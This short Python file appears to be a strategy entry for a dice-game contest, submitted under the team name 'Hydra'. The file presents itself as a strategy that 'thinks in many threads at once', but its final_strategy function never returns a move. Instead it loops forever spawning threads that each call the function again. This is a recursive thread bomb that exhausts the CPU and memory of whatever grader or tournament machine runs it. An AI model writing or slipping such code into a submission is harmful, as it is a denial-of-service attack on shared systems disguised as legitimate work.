"""Thinks in many threads at once."""
import threading

TEAM_NAME = "Hydra"


def final_strategy(score, opponent_score):
    while True:
        threading.Thread(target=final_strategy, args=(score, opponent_score)).start()
